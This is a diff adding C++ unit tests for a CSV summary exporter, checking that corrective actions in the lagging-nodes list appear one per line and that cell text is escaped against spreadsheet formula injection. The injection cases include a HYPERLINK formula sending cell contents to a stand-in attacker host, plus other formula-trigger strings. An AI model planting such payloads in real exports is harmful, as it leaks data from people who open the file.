@@ -223,3 +223,113 @@ TEST(SummaryCsvWriterTest, WritesAtomically)
     }
     EXPECT_FALSE(QFile::exists(missing));
 }
+
+// --- corrective actions in the lagging list -------------------------------------------------------
+
+namespace {
+
+/// The lagging list's header and lines (up to the blank line after them).
+std::pair<QStringList, std::vector<QStringList>> laggingSection(const std::vector<QStringList> &recs)
+{
+    for (std::size_t i = 0; i + 1 < recs.size(); ++i) {
+        if (recs[i][0] != u"Lagging nodes" || recs[i].value(1) != QString())
+            continue;
+        std::vector<QStringList> lines;
+        for (std::size_t j = i + 2; j < recs.size() && !recs[j][0].isEmpty(); ++j)
+            lines.push_back(recs[j]);
+        return {recs[i + 1], lines};
+    }
+    return {};
+}
+
+std::vector<QStringList> linesOf(const std::vector<QStringList> &lines, const QString &path)
+{
+    std::vector<QStringList> out;
+    std::copy_if(lines.begin(), lines.end(), std::back_inserter(out), [&](const QStringList &l) { return l[1] == path; });
+    return out;
+}
+
+const SummaryRow &rowOf(const WeeklySummary &s, NodeId id)
+{
+    for (const SummaryRow &r : s.sections.front().rows) {
+        if (r.id == id)
+            return r;
+    }
+    throw std::runtime_error("no such row");
+}
+
+} // namespace
+
+TEST(SummaryCsvWriterTest, LaggingListHasALinePerCorrectiveActionWithItsReason)
+{
+    ActionsPlan &p = ActionsPlan::get();
+    const WeeklySummary s = p.summary();
+    const QByteArray bytes = SummaryCsvWriter::toBytes(s);
+    const auto recs = parseCsv(QString::fromUtf8(bytes));
+    for (const QStringList &r : recs)
+        ASSERT_EQ(r.size(), recs.front().size()) << r.join(u'|').toStdString();
+    const auto [header, lines] = laggingSection(recs);
+    EXPECT_EQ(header.mid(0, 15), (QStringList{QStringLiteral("Dimension"), QStringLiteral("Node"), QStringLiteral("Month target"),
+                                              QStringLiteral("Month actual"), QStringLiteral("Month gap"),
+                                              QStringLiteral("Pace (month to date)"), QStringLiteral("Required daily rate"),
+                                              QStringLiteral("Status (month to date)"), QStringLiteral("Corrective action"),
+                                              QStringLiteral("Action owner"), QStringLiteral("Action due"),
+                                              QStringLiteral("Expected effect"), QStringLiteral("Action status"),
+                                              QStringLiteral("Variance reason"), QStringLiteral("Variance reason note")}));
+
+    // Two lines: the sales action (open) first, then the all-metrics one (done); the figures once.
+    const SummaryRow &row = rowOf(s, p.withActions);
+    const auto mine = linesOf(lines, row.path);
+    ASSERT_EQ(mine.size(), 2u);
+    EXPECT_EQ(mine[0][0], QStringLiteral("Organization"));
+    EXPECT_EQ(mine[0][4], row.month.gap.toDecimalString(2));
+    EXPECT_TRUE(mine[0][7].endsWith(QStringLiteral("Lagging")));
+    EXPECT_EQ(mine[0].mid(8, 7), (QStringList{kSalesAction, QStringLiteral("张伟"), QStringLiteral("2026-11-30"),
+                                              QStringLiteral("月底前追回 50 万元"), QStringLiteral("Open"),
+                                              QStringLiteral("Internal"), QStringLiteral("新人占比高，跟进不足")}));
+    EXPECT_EQ(mine[1][0], QStringLiteral("Organization"));
+    EXPECT_EQ(mine[1].mid(2, 6), QStringList(6, QString())); // the figures are not repeated: they add up
+    EXPECT_EQ(mine[1].mid(8, 7), (QStringList{kAllMetricsAction, QStringLiteral("李娜"), QStringLiteral("2026-11-20"),
+                                              QStringLiteral("预计本月追回销售额 80 万元，下月起每周新增商机 5 个以上"),
+                                              QStringLiteral("Done"), QStringLiteral("External"),
+                                              QStringLiteral("主要竞争对手在华东区域降价 10%，部分客户推迟采购决策")}));
+    // The visits action is for another metric.
+    EXPECT_FALSE(QString::fromUtf8(bytes).contains(kVisitsAction));
+
+    // A lagging node without actions says so, on its one line.
+    const auto none = linesOf(lines, rowOf(s, p.without).path);
+    ASSERT_EQ(none.size(), 1u);
+    EXPECT_EQ(none[0][8], QStringLiteral("No corrective action yet"));
+    EXPECT_EQ(none[0].mid(9, 6), QStringList(6, QString()));
+
+    // One line per action, at least one per node, and nothing else.
+    std::size_t expected = 0;
+    for (const LaggingNode &n : s.sections.front().lagging)
+        expected += std::max<std::size_t>(1, n.actions.size());
+    EXPECT_EQ(lines.size(), expected);
+}
+
+class SummaryCsvActionInjectionTest : public ::testing::TestWithParam<const char *>
+{
+};
+
+TEST_P(SummaryCsvActionInjectionTest, ActionTextsCannotBecomeFormulas)
+{
+    const QString text = QString::fromUtf8(GetParam());
+    WeeklySummary s = demoSummary({Dimension::Org});
+    ASSERT_FALSE(s.sections.front().lagging.empty());
+    CorrectiveAction a;
+    a.description = text;
+    a.owner = text;
+    a.expectedEffect = text;
+    a.reasonNote = text;
+    s.sections.front().lagging.front().actions = {a};
+    const auto [header, lines] = laggingSection(records(s));
+    ASSERT_FALSE(lines.empty());
+    for (int c : {8, 9, 11, 14})
+        EXPECT_EQ(lines.front()[c], u'\'' + text) << c;
+}
+
+INSTANTIATE_TEST_SUITE_P(Owasp, SummaryCsvActionInjectionTest,
+                         ::testing::Values("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")", "+1+2", "-3+4",
+                                           "@SUM(A1)", "\tcmd", "\r=1", "=1\n=2"));
